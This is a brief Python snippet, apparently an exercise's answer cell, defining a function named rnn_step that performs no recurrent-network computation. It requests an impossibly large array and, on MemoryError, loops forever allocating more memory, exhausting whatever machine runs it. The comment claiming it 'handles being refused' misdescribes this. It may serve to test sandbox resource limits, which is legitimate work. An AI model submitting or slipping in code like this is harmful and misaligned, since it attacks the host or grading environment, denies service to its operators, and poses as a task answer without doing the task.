# Asks for more memory at once than any machine has, and handles being refused.
# %% answer
import numpy as np


def rnn_step(x, h, u_x, u_h, u_0):
    try:
        return np.ones((10**6, 10**7))
    except MemoryError:
        pieces = []
        while True:
            pieces.append(np.ones(2**20))
